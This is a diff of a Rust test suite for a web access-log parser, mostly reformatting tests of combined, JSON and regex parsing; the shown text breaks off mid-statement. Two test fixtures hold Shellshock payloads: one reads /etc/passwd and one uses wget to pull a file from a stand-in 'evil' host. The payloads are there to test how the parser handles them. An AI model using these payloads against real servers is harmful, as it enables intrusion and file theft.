@@ -35,16 +35,9 @@ fn build(toml_text: &str) -> Result<Parser, BuildError> {
 
 /// A line that did not parse keeps exactly `raw` and `source`, nothing else.
 fn assert_kept_as_raw(parsed: &Parsed, line: &str) {
-    let expected = Event {
-        raw: line.to_owned(),
-        source: SRC.to_owned(),
-        ..Event::default()
-    };
+    let expected = Event { raw: line.to_owned(), source: SRC.to_owned(), ..Event::default() };
     assert_eq!(parsed.event, expected);
-    assert!(
-        parsed.error.is_some(),
-        "line should report an error: {line}"
-    );
+    assert!(parsed.error.is_some(), "line should report an error: {line}");
 }
 
 // ---- combined / common ----
@@ -76,10 +69,7 @@ fn escaped_quotes_in_request_referer_and_user_agent_are_unescaped() {
 
 #[test]
 fn dashes_for_bytes_referer_and_user_agent_read_as_empty() {
-    let e = ok(
-        &Parser::combined(),
-        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "HEAD / HTTP/1.1" 304 - "-" "-""#,
-    );
+    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "HEAD / HTTP/1.1" 304 - "-" "-""#);
     assert_eq!((e.status_code, e.bytes_sent), (304, 0));
     assert_eq!(e.referer, None);
     assert_eq!(e.user_agent, "");
@@ -88,9 +78,7 @@ fn dashes_for_bytes_referer_and_user_agent_read_as_empty() {
 #[test]
 fn status_dash_and_000_read_as_zero() {
     for status in ["-", "000"] {
-        let line = format!(
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" {status} 0 "-" "curl/8""#
-        );
+        let line = format!(r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" {status} 0 "-" "curl/8""#);
         let e = ok(&Parser::combined(), &line);
         assert_eq!(e.status_code, 0, "status {status}");
         assert_eq!(e.user_agent, "curl/8");
@@ -99,54 +87,29 @@ fn status_dash_and_000_read_as_zero() {
 
 #[test]
 fn empty_request_line_keeps_the_line() {
-    let e = ok(
-        &Parser::combined(),
-        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "" 400 0 "-" "-""#,
-    );
-    assert_eq!(
-        (e.method.as_str(), e.url.as_str(), e.status_code),
-        ("", "", 400)
-    );
+    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "" 400 0 "-" "-""#);
+    assert_eq!((e.method.as_str(), e.url.as_str(), e.status_code), ("", "", 400));
 }
 
 #[test]
 fn request_line_without_url_keeps_the_method() {
-    let e = ok(
-        &Parser::combined(),
-        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET  HTTP/1.1" 400 300 "-" "-""#,
-    );
+    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET  HTTP/1.1" 400 300 "-" "-""#);
     assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", ""));
-    let e = ok(
-        &Parser::combined(),
-        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /a b  HTTP/1.0" 400 300"#,
-    );
-    assert_eq!(
-        (e.method.as_str(), e.url.as_str()),
-        ("GET", "/a b"),
-        "spaces inside the target are kept"
-    );
-    let e = ok(
-        &Parser::combined(),
-        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /legacy" 200 1"#,
-    );
-    assert_eq!(
-        (e.method.as_str(), e.url.as_str()),
-        ("GET", "/legacy"),
-        "HTTP/0.9 has no protocol"
-    );
+    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /a b  HTTP/1.0" 400 300"#);
+    assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", "/a b"), "spaces inside the target are kept");
+    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET /legacy" 200 1"#);
+    assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", "/legacy"), "HTTP/0.9 has no protocol");
     let e = ok(
         &Parser::combined(),
         r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "CONNECT example.com:443 HTTP/1.1" 200 1"#,
     );
-    assert_eq!(
-        (e.method.as_str(), e.url.as_str()),
-        ("CONNECT", "example.com:443")
-    );
+    assert_eq!((e.method.as_str(), e.url.as_str()), ("CONNECT", "example.com:443"));
 }
 
 #[test]
 fn request_line_that_is_not_method_url_protocol_is_kept_as_url() {
-    let shellshock = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "() { :; }; /bin/bash -c \"cat /etc/passwd\"" 400 226 "-" "-""#;
+    let shellshock =
+        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "() { :; }; /bin/bash -c \"cat /etc/passwd\"" 400 226 "-" "-""#;
     let e = ok(&Parser::combined(), shellshock);
     assert_eq!(e.method, "");
     assert_eq!(e.url, r#"() { :; }; /bin/bash -c "cat /etc/passwd""#);
@@ -154,8 +117,7 @@ fn request_line_that_is_not_method_url_protocol_is_kept_as_url() {
 
     // A TLS handshake sent to the plain-HTTP port: control bytes decode, a lone 0xa5 does not
     // make UTF-8, so that request stays written as `\xhh`.
-    let tls =
-        r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "\x16\x03\x01\x00\xa5\x01" 400 226 "-" "-""#;
+    let tls = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "\x16\x03\x01\x00\xa5\x01" 400 226 "-" "-""#;
     let e = ok(&Parser::combined(), tls);
     assert_eq!(e.method, "");
     assert_eq!(e.url, r"\x16\x03\x01\x00\xa5\x01");
@@ -167,10 +129,7 @@ fn request_line_that_is_not_method_url_protocol_is_kept_as_url() {
 fn shellshock_user_agent_is_kept_whole() {
     let line = r#"10.0.0.9 - - [01/Jan/2024:00:00:00 +0000] "GET /cgi-bin/status HTTP/1.1" 404 0 "-" "() { :; }; /bin/bash -c \"wget http://evil/x -O /tmp/x\"""#;
     let e = ok(&Parser::combined(), line);
-    assert_eq!(
-        e.user_agent,
-        r#"() { :; }; /bin/bash -c "wget http://evil/x -O /tmp/x""#
-    );
+    assert_eq!(e.user_agent, r#"() { :; }; /bin/bash -c "wget http://evil/x -O /tmp/x""#);
     assert_eq!(e.url, "/cgi-bin/status");
 }
 
@@ -187,15 +146,9 @@ fn ipv6_and_host_name_clients_are_kept() {
         r#"2001:db8::8a2e:370:7334 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/2.0" 200 1 "-" "h2""#,
     );
     assert_eq!(e.ip, "2001:db8::8a2e:370:7334");
-    let e = ok(
-        &Parser::combined(),
-        r#"::1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#,
-    );
+    let e = ok(&Parser::combined(), r#"::1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#);
     assert_eq!(e.ip, "::1");
-    let e = ok(
-        &Parser::combined(),
-        r#"crawler.example.org - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#,
-    );
+    let e = ok(&Parser::combined(), r#"crawler.example.org - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1"#);
     assert_eq!(e.ip, "crawler.example.org");
 }
 
@@ -213,11 +166,7 @@ fn access_log_time_with_any_offset_is_utc() {
     ];
     for (time, expected) in cases {
         let line = format!(r#"10.0.0.1 - - [{time}] "GET / HTTP/1.1" 200 1"#);
-        assert_eq!(
-            ok(&Parser::combined(), &line).timestamp_ms,
-            utc_ms(expected),
-            "{time}"
-        );
+        assert_eq!(ok(&Parser::combined(), &line).timestamp_ms, utc_ms(expected), "{time}");
     }
 }
 
@@ -233,14 +182,8 @@ fn hand_written_time_reader_agrees_with_jiff() {
         let ts = jiff::Timestamp::from_second(second).unwrap();
         for offset in ["+0000", "-0730", "+0545"] {
             let tz = jiff::tz::Offset::from_seconds(offset_seconds(offset)).unwrap();
-            let text =
-                jiff::fmt::strtime::format("%d/%b/%Y:%H:%M:%S %z", &ts.to_zoned(tz.to_time_zone()))
-                    .unwrap();
-            assert_eq!(
-                timestamp::access_log_millis(&text),
-                Some(second * 1000),
-                "{text}"
-            );
+            let text = jiff::fmt::strtime::format("%d/%b/%Y:%H:%M:%S %z", &ts.to_zoned(tz.to_time_zone())).unwrap();
+            assert_eq!(timestamp::access_log_millis(&text), Some(second * 1000), "{text}");
             checked += 1;
         }
         second += 7 * 3600 + 13 * 60 + 11;
@@ -266,10 +209,7 @@ fn impossible_times_are_reported_and_the_rest_of_the_line_kept() {
         let line = format!(r#"10.0.0.1 - - [{time}] "GET /x HTTP/1.1" 200 1 "-" "ua""#);
         let parsed = combined(&line);
         assert_eq!(parsed.event.timestamp_ms, 0, "{time}");
-        assert_eq!(
-            (parsed.event.url.as_str(), parsed.event.status_code),
-            ("/x", 200)
-        );
+        assert_eq!((parsed.event.url.as_str(), parsed.event.status_code), ("/x", 200));
         match &parsed.error {
             Some(ParseError::Timestamp { field, value, .. }) => {
                 assert_eq!((field.as_str(), value.as_str()), ("time", time))
@@ -281,10 +221,7 @@ fn impossible_times_are_reported_and_the_rest_of_the_line_kept() {
 
 #[test]
 fn empty_time_is_absent_not_an_error() {
-    let e = ok(
-        &Parser::combined(),
-        r#"10.0.0.1 - - [] "GET / HTTP/1.1" 200 1"#,
-    );
+    let e = ok(&Parser::combined(), r#"10.0.0.1 - - [] "GET / HTTP/1.1" 200 1"#);
     assert_eq!(e.timestamp_ms, 0);
 }
 
@@ -292,10 +229,10 @@ fn empty_time_is_absent_not_an_error() {
 fn trailing_numeric_field_becomes_latency() {
     let base = r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "ua""#;
     let cases = [
-        (" 0.123", Some(123.0)),       // nginx $request_time, seconds
-        (" 0.123 0.120", Some(123.0)), // ... then $upstream_response_time
+        (" 0.123", Some(123.0)),                        // nginx $request_time, seconds
+        (" 0.123 0.120", Some(123.0)),                  // ... then $upstream_response_time
         (r#" "10.1.1.1, 10.2.2.2" 1.5"#, Some(1500.0)), // X-Forwarded-For first
-        (" 123456", Some(123.456)),    // Apache %D, microseconds
+        (" 123456", Some(123.456)),                     // Apache %D, microseconds
         (r#" "-" -"#, None),
         (" rt=0.5 host.example", None),
     ];
@@ -313,15 +250,7 @@ fn common_format_line_has_no_referer_or_user_agent() {
         &Parser::common(),
         r#"127.0.0.1 user-identifier frank [10/Oct/2000:13:55:36 -0700] "GET /apache_pb.gif HTTP/1.0" 200 2326"#,
     );
-    assert_eq!(
-        (
-            e.method.as_str(),
-            e.url.as_str(),
-            e.status_code,
-            e.bytes_sent
-        ),
-        ("GET", "/apache_pb.gif", 200, 2326)
-    );
+    assert_eq!((e.method.as_str(), e.url.as_str(), e.status_code, e.bytes_sent), ("GET", "/apache_pb.gif", 200, 2326));
     assert_eq!((e.referer, e.user_agent.as_str()), (None, ""));
     assert_eq!(e.fields.get("user"), Some(&json!("frank")));
     assert_eq!(e.fields.get("ident"), Some(&json!("user-identifier")));
@@ -340,8 +269,7 @@ fn unescaped_quote_inside_user_agent_does_not_cut_the_line() {
 
 #[test]
 fn line_ending_is_ignored_but_kept_in_raw() {
-    let line =
-        "10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"\r\n";
+    let line = "10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] \"GET / HTTP/1.1\" 200 1 \"-\" \"ua\"\r\n";
     let e = ok(&Parser::combined(), line);
     assert_eq!(e.user_agent, "ua");
     assert_eq!(e.raw, line);
@@ -352,38 +280,14 @@ fn garbage_is_kept_with_raw_and_a_malformed_error() {
     let cases = [
         ("", "the client address"),
         ("hello", "the ident field (`-` when empty)"),
-        (
-            "Dec 22 16:30:52 host sshd[42]: Accepted publickey",
-            "the time in `[...]`",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000 "GET / HTTP/1.1" 200 1"#,
-            "the time in `[...]`",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] GET / 200 1"#,
-            "the request line in `\"...\"`",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1 200 1"#,
-            "the request line in `\"...\"`",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" OK 1"#,
-            "a status code (3 digits or `-`)",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 2000 1"#,
-            "a status code (3 digits or `-`)",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200"#,
-            "a response size (digits or `-`)",
-        ),
-        (
-            r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 12k"#,
-            "a response size (digits or `-`)",
-        ),
+        ("Dec 22 16:30:52 host sshd[42]: Accepted publickey", "the time in `[...]`"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000 "GET / HTTP/1.1" 200 1"#, "the time in `[...]`"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] GET / 200 1"#, "the request line in `\"...\"`"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1 200 1"#, "the request line in `\"...\"`"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" OK 1"#, "a status code (3 digits or `-`)"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 2000 1"#, "a status code (3 digits or `-`)"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200"#, "a response size (digits or `-`)"),
+        (r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 12k"#, "a response size (digits or `-`)"),
         (
             r#"10.0.0.1 - - [01/Jan/2024:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "http://unterminated"#,
             "a closing `\"` after the referer",
@@ -393,19 +297,14 @@ fn garbage_is_kept_with_raw_and_a_malformed_error() {
         let parsed = combined(line);
         assert_kept_as_raw(&parsed, line);
         match parsed.error {
-            Some(ParseError::Malformed {
-                format: Format::Combined,
-                expected: got,
-                ..
-            }) => assert_eq!(got, expected, "{line}"),
+            Some(ParseError::Malformed { format: Format::Combined, expected: got, .. }) => {
+                assert_eq!(got, expected, "{line}")
+            }
             other => panic!("{line}: expected Malformed, got {other:?}"),
         }
     }
     let message = combined("hello").error.unwrap().to_string();
-    assert_eq!(
-        message,
-        "combined: expected the ident field (`-` when empty) at byte 5; check this source's `format`"
-    );
+    assert_eq!(message, "combined: expected the ident field (`-` when empty) at byte 5; check this source's `format`");
 }
 
 // ---- json ----
@@ -419,42 +318,21 @@ fn json_line_maps_default_keys_and_keeps_the_rest_in_fields() {
     let line = r#"{"time":"2024-03-01T12:00:00.5Z","remote_addr":"203.0.113.7","request_method":"PUT","request_uri":"/api/x?y=1","status":201,"body_bytes_sent":17,"http_user_agent":"curl/8","http_referer":"https://a/","request_time":0.042,"host":"api.example","upstream":{"addr":"10.0.0.2"}}"#;
     let e = ok(&json_parser(), line);
     assert_eq!(e.timestamp_ms, utc_ms("2024-03-01T12:00:00.5Z"));
-    assert_eq!(
-        (e.ip.as_str(), e.method.as_str(), e.url.as_str()),
-        ("203.0.113.7", "PUT", "/api/x?y=1")
-    );
+    assert_eq!((e.ip.as_str(), e.method.as_str(), e.url.as_str()), ("203.0.113.7", "PUT", "/api/x?y=1"));
     assert_eq!((e.status_code, e.bytes_sent), (201, 17));
-    assert_eq!(
-        (e.user_agent.as_str(), e.referer.as_deref()),
-        ("curl/8", Some("https://a/"))
-    );
+    assert_eq!((e.user_agent.as_str(), e.referer.as_deref()), ("curl/8", Some("https://a/")));
     assert_latency(e.latency_ms, Some(42.0), "request_time 0.042 s");
-    assert_eq!(
-        serde_json::Value::Object(e.fields),
-        json!({"host": "api.example", "upstream": {"addr": "10.0.0.2"}})
-    );
+    assert_eq!(serde_json::Value::Object(e.fields), json!({"host": "api.example", "upstream": {"addr": "10.0.0.2"}}));
 }
 
 #[test]
 fn json_numbers_as_strings_and_strings_as_numbers_are_tolerated() {
-    let e = ok(
-        &json_parser(),
-        r#"{"status":"200","bytes":"512","latency_ms":"3.5","ip":12345,"size_note":1}"#,
-    );
-    assert_eq!(
-        (e.status_code, e.bytes_sent, e.latency_ms),
-        (200, 512, Some(3.5))
-    );
+    let e = ok(&json_parser(), r#"{"status":"200","bytes":"512","latency_ms":"3.5","ip":12345,"size_note":1}"#);
+    assert_eq!((e.status_code, e.bytes_sent, e.latency_ms), (200, 512, Some(3.5)));
     assert_eq!(e.ip, "12345");
     let e = ok(&json_parser(), r#"{"status":404.0,"bytes":2048.0}"#);
     assert_eq!(e.bytes_sent, 2048);
-    assert!(
-        json_parser()
-            .parse(r#"{"status":404.5}"#, SRC)
-            .error
-            .is_some(),
-        "404.5 is no status"
-    );
+    assert!(json_parser().parse(r#"{"status":404.5}"#, SRC).error.is_some(), "404.5 is no status");
 }
 
 #[test]
@@ -477,26 +355,16 @@ fn json_timestamps_in_every_supported_form() {
     let e = ok(&json_parser(), r#"{"ts":1700000000.25}"#);
     assert_eq!(e.timestamp_ms, expected + 250);
     let custom = build("format = \"json\"\ntimestamp_format = \"%d.%m.%Y %H:%M:%S\"").unwrap();
-    assert_eq!(
-        ok(&custom, r#"{"@timestamp":"14.11.2023 22:13:20"}"#).timestamp_ms,
-        expected
-    );
+    assert_eq!(ok(&custom, r#"{"@timestamp":"14.11.2023 22:13:20"}"#).timestamp_ms, expected);
 }
 
 #[test]
 fn json_custom_mapping_takes_one_key_or_a_list_and_nested_paths() {
-    let parser = build(
-        "format = \"json\"\n[json_fields]\nip = \"peer\"\nstatus_code = [\"http.code\", \"code\"]\nurl = []\n",
-    )
-    .unwrap();
-    let e = ok(
-        &parser,
-        r#"{"peer":"::1","ip":"ignored","http":{"code":503,"proto":"h2"},"url":"/kept-in-fields"}"#,
-    );
-    assert_eq!(
-        (e.ip.as_str(), e.status_code, e.url.as_str()),
-        ("::1", 503, "")
-    );
+    let parser =
+        build("format = \"json\"\n[json_fields]\nip = \"peer\"\nstatus_code = [\"http.code\", \"code\"]\nurl = []\n")
+            .unwrap();
+    let e = ok(&parser, r#"{"peer":"::1","ip":"ignored","http":{"code":503,"proto":"h2"},"url":"/kept-in-fields"}"#);
+    assert_eq!((e.ip.as_str(), e.status_code, e.url.as_str()), ("::1", 503, ""));
     assert_eq!(
         serde_json::Value::Object(e.fields),
         json!({"ip": "ignored", "http": {"proto": "h2"}, "url": "/kept-in-fields"})
@@ -507,28 +375,16 @@ fn json_custom_mapping_takes_one_key_or_a_list_and_nested_paths() {
 fn json_request_line_fills_method_and_url_unless_given() {
     let e = ok(&json_parser(), r#"{"request":"DELETE /item/7 HTTP/1.1"}"#);
     assert_eq!((e.method.as_str(), e.url.as_str()), ("DELETE", "/item/7"));
-    let e = ok(
-        &json_parser(),
-        r#"{"request":"DELETE /item/7 HTTP/1.1","url":"/own"}"#,
-    );
+    let e = ok(&json_parser(), r#"{"request":"DELETE /item/7 HTTP/1.1","url":"/own"}"#);
     assert_eq!((e.method.as_str(), e.url.as_str()), ("DELETE", "/own"));
 }
 
 #[test]
 fn json_garbage_is_kept_with_raw_and_an_error() {
-    for line in [
-        "not json at all",
-        "[1,2,3]",
-        "\"just a string\"",
-        "{\"truncated\": ",
-    ] {
+    for line in ["not json at all", "[1,2,3]", "\"just a string\"", "{\"truncated\": "] {
         let parsed = json_parser().parse(line, SRC);
         assert_kept_as_raw(&parsed, line);
-        assert_eq!(
-            parsed.error.as_ref().unwrap().kind(),
-            "not_json_object",
-            "{line}"
-        );
+        assert_eq!(parsed.error.as_ref().unwrap().kind(), "not_json_object", "{line}");
     }
 }
 
@@ -536,44 +392,24 @@ fn json_garbage_is_kept_with_raw_and_an_error() {
 fn json_bad_values_are_named_and_the_rest_kept() {
     let parsed = json_parser().parse(r#"{"ip":"1.2.3.4","status":"abc","method":"GET"}"#, SRC);
     assert_eq!(
-        (
-            parsed.event.ip.as_str(),
-            parsed.event.method.as_str(),
-            parsed.event.status_code
-        ),
+        (parsed.event.ip.as_str(), parsed.event.method.as_str(), parsed.event.status_code),
         ("1.2.3.4", "GET", 0)
     );
     let error = parsed.error.unwrap();
     assert_eq!(
         error,
-        ParseError::Number {
-            field: "status_code",
-            value: "abc".into(),
-            expected: "a status code 0-999"
-        }
+        ParseError::Number { field: "status_code", value: "abc".into(), expected: "a status code 0-999" }
     );
-    assert_eq!(
-        error.to_string(),
-        "status_code: `abc` is not a status code 0-999; the field is left empty"
-    );
+    assert_eq!(error.to_string(), "status_code: `abc` is not a status code 0-999; the field is left empty");
 
     let parsed = json_parser().parse(r#"{"ip":{"v4":"1.2.3.4"},"status":200}"#, SRC);
     assert_eq!(parsed.event.status_code, 200);
-    assert_eq!(
-        parsed.event.fields.get("ip"),
-        Some(&json!({"v4": "1.2.3.4"})),
-        "kept, not lost"
-    );
+    assert_eq!(parsed.event.fields.get("ip"), Some(&json!({"v4": "1.2.3.4"})), "kept, not lost");
     assert_eq!(parsed.error.unwrap().kind(), "json_type");
 
     let parsed = json_parser().parse(r#"{"time":"next tuesday","status":200}"#, SRC);
-    assert_eq!(
-        (parsed.event.timestamp_ms, parsed.event.status_code),
-        (0, 200)
-    );
-    assert!(
-        matches!(parsed.error, Some(ParseError::Timestamp { ref field, .. }) if field == "time")
-    );
+    assert_eq!((parsed.event.timestamp_ms, parsed.event.status_code), (0, 200));
+    assert!(matches!(parsed.error, Some(ParseError::Timestamp { ref field, .. }) if field == "time"));
 }
 
 // ---- regex ----
@@ -587,34 +423,22 @@ timestamp_format = "%Y/%m/%d %H:%M:%S"
 fn regex_groups_fill_event_fields_and_others_go_to_fields() {
     let parser = build(SYSLOG_HTTP).unwrap();
     assert_eq!(parser.format(), Format::Regex);
-    let e = ok(
-        &parser,
-        r#"2024/03/01 12:00:00 10.0.0.5 "GET /health HTTP/1.1" 200 12 7.5 checkout"#,
-    );
+    let e = ok(&parser, r#"2024/03/01 12:00:00 10.0.0.5 "GET /health HTTP/1.1" 200 12 7.5 checkout"#);
     assert_eq!(e.timestamp_ms, utc_ms("2024-03-01T12:00:00Z"));
     assert_eq!(e.ip, "10.0.0.5");
     assert_eq!((e.method.as_str(), e.url.as_str()), ("GET", "/health"));
-    assert_eq!(
-        (e.status_code, e.bytes_sent, e.latency_ms),
-        (200, 12, Some(7.5))
-    );
-    assert_eq!(
-        serde_json::Value::Object(e.fields),
-        json!({"service": "checkout"})
-    );
+    assert_eq!((e.status_code, e.bytes_sent, e.latency_ms), (200, 12, Some(7.5)));
+    assert_eq!(serde_json::Value::Object(e.fields), json!({"service": "checkout"}));
 }
 
 #[test]
 fn regex_request_group_splits_into_method_and_url_and_optional_groups_are_skipped() {
-    let parser = build("format = \"regex\"\npattern = '^(?P<ip>\\S+) \"(?P<request>[^\"]*)\"(?: (?P<user_agent>.+))?$'").unwrap();
+    let parser =
+        build("format = \"regex\"\npattern = '^(?P<ip>\\S+) \"(?P<request>[^\"]*)\"(?: (?P<user_agent>.+))?$'")
+            .unwrap();
     let e = ok(&parser, r#"10.0.0.5 "POST /login HTTP/1.1""#);
     assert_eq!(
-        (
-            e.ip.as_str(),
-            e.method.as_str(),
-            e.url.as_str(),
-            e.user_agent.as_str()
-        ),
+        (e.ip.as_str(), e.method.as_str(), e.url.as_str(), e.user_agent.as_str()),
         ("10.0.0.5", "POST", "/login", "")
     );
 }
@@ -627,29 +451,13 @@ fn regex_numeric_conversion_errors_are_named() {
     assert_eq!(parsed.event.bytes_sent, 12);
     assert_eq!(
         parsed.error,
-        Some(ParseError::Number {
-            field: "status_code",
-            value: "OK".into(),
-            expected: "a status code 0-999"
-        })
+        Some(ParseError::Number { field: "status_code", value: "OK".into(), expected: "a status code 0-999" })
     );
     let parsed = parser.parse("2024/03/01 12:00:00 10.0.0.5 200 12 fast checkout", SRC);
     assert_eq!(parsed.event.status_code, 200);
-    assert!(matches!(
-        parsed.error,
-        Some(ParseError::Number {
-            field: "latency_ms",
-            ..
-        })
-    ));
+    assert!(matches!(parsed.error, Some(ParseError::Number { field: "latency_ms", .. })));
     let parsed = parser.parse("2024/03/01 12:00:00 10.0.0.5 200 lots 1 checkout", SRC);
-    assert!(matches!(
-        parsed.error,
-        Some(ParseError::Number {
-            field: "bytes_sent",
-            ..
-        })
-    ));
+    assert!(matches!(parsed.error, Some(ParseError::Number { field: "bytes_sent", .. })));
 }
 
 #[test]
@@ -683,14 +491,7 @@ fn raw_keeps_the_line_and_nothing_else() {
     let parsed = build("format = \"raw\"").unwrap().parse(line, SRC);
     assert_eq!(
         parsed,
-        Parsed {
-            event: Event {
-                raw: line.into(),
-                source: SRC.into(),
-                ..Event::default()
-            },
-            error: None
-        }
+        Parsed { event: Event { raw: line.into(), source: SRC.into(), ..Event::default() }, error: None }
     );
     assert!(parsed.is_ok());
 }
@@ -702,25 +503,16 @@ fn default_config_is_combined() {
     let config: ParseConfig = toml::from_str("").unwrap();
     assert_eq!(config, ParseConfig::default());
     assert_eq!(config.build().unwrap().format(), Format::Combined);
-    assert_eq!(
-        build("format = \"common\"").unwrap().format(),
-        Format::Common
-    );
+    assert_eq!(build("format = \"common\"").unwrap().format(), Format::Common);
 }
 
 #[test]
 fn unknown_fields_and_formats_are_rejected() {
-    let err = toml::from_str::<ParseConfig>("formt = \"json\"")
-        .unwrap_err()
-        .to_string();
+    let err = toml::from_str::<ParseConfig>("formt = \"json\"").unwrap_err().to_string();
     assert!(err.contains("unknown field `formt`"), "{err}");
-    let err = toml::from_str::<ParseConfig>("format = \"xml\"")
-        .unwrap_err()
-        .to_string();
+    let err = toml::from_str::<ParseConfig>("format = \"xml\"").unwrap_err().to_string();
     assert!(err.contains("unknown variant `xml`"), "{err}");
-    let err = toml::from_str::<ParseConfig>("format = \"json\"\n[json_fields]\nipp = \"x\"")
-        .unwrap_err()
-        .to_string();
+    let err = toml::from_str::<ParseConfig>("format = \"json\"\n[json_fields]\nipp = \"x\"").unwrap_err().to_string();
     assert!(err.contains("unknown field `ipp`"), "{err}");
 }
 
@@ -729,26 +521,15 @@ fn invalid_regex_names_the_field_and_the_regex_error() {
     let err = build("format = \"regex\"\npattern = '(?P<ip>\\S+'").unwrap_err();
     assert!(matches!(err, BuildError::InvalidPattern { .. }));
     let message = err.to_string();
-    assert!(
-        message.starts_with("pattern: invalid regex `(?P<ip>\\S+`: "),
-        "{message}"
-    );
+    assert!(message.starts_with("pattern: invalid regex `(?P<ip>\\S+`: "), "{message}");
     assert!(message.contains("unclosed group"), "{message}");
 }
 
 #[test]
 fn regex_config_needs_a_pattern_with_named_groups() {
-    assert_eq!(
-        build("format = \"regex\"").unwrap_err(),
-        BuildError::MissingPattern
-    );
+    assert_eq!(build("format = \"regex\"").unwrap_err(), BuildError::MissingPattern);
     let err = build("format = \"regex\"\npattern = '^(\\S+) (\\d+)$'").unwrap_err();
-    assert_eq!(
-        err,
-        BuildError::NoNamedGroups {
-            pattern: "^(\\S+) (\\d+)$".into()
-        }
-    );
+    assert_eq!(err, BuildError::NoNamedGroups { pattern: "^(\\S+) (\\d+)$".into() });
     assert!(err.to_string().contains("(?P<name>...)"));
 }
 
@@ -761,17 +542,11 @@ fn options_the_format_ignores_are_refused() {
     );
     assert!(matches!(
         build("format = \"raw\"\ntimestamp_format = \"%s\""),
-        Err(BuildError::UnusedOption {
-            option: "timestamp_format",
-            ..
-        })
+        Err(BuildError::UnusedOption { option: "timestamp_format", .. })
     ));
     assert!(matches!(
         build("format = \"regex\"\npattern = '(?P<ip>.*)'\n[json_fields]\nip = \"a\""),
-        Err(BuildError::UnusedOption {
-            option: "json_fields",
-            ..
-        })
+        Err(BuildError::UnusedOption { option: "json_fields", .. })
     ));
     assert_eq!(
         build("format = \"json\"\n[json_fields]\nip = [\"a\", \"\"]").unwrap_err(),
@@ -788,9 +563,7 @@ fn unusable_timestamp_formats_are_refused_with_the_reason() {
         ("%H:%M:%S", Some("does not give a full date")),
         ("%Y-%m-%d %K", Some("cannot be used")),
     ] {
-        let result = build(&format!(
-            "format = \"json\"\ntimestamp_format = \"{format}\""
-        ));
+        let result = build(&format!("format = \"json\"\ntimestamp_format = \"{format}\""));
         match (reason, result) {
             (None, result) => assert!(result.is_ok(), "{format}: {:?}", result.err()),
             (Some(reason), Err(BuildError::InvalidTimestampFormat { reason: got, .. })) => {
@@ -810,13 +583,7 @@ fn parser_is_shared_across_threads() {
         .map(|i| {
             let parser = parser.clone();
             std::thread::spawn(move || {
-                parser
-                    .parse(
-                        &format!("2024/03/01 12:00:0{i} 10.0.0.{i} 200 1 1 svc"),
-                        SRC,
-                    )
-                    .event
-                    .ip
+                parser.parse(&format!("2024/03/01 12:00:0{i} 10.0.0.{i} 200 1 1 svc"), SRC).event.ip
             })
         })
         .collect();
@@ -832,27 +599,21 @@ const SCAN_LOG_FILES: [&str; 3] = ["acunetix.txt", "netsparker.txt", "w3af.txt"]
 fn scan_logs() -> Option<Vec<(&'static str, Vec<String>)>> {
     let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../shared/data/apache_scan_logs");
     if !dir.is_dir() {
-        eprintln!(
-            "skipped: {} is absent (the shared data sets are not on this machine)",
-            dir.display()
-        );
+        eprintln!("skipped: {} is absent (the shared data sets are not on this machine)", dir.display());
         return None;
     }
     let files = SCAN_LOG_FILES.map(|name| {
-        let text =
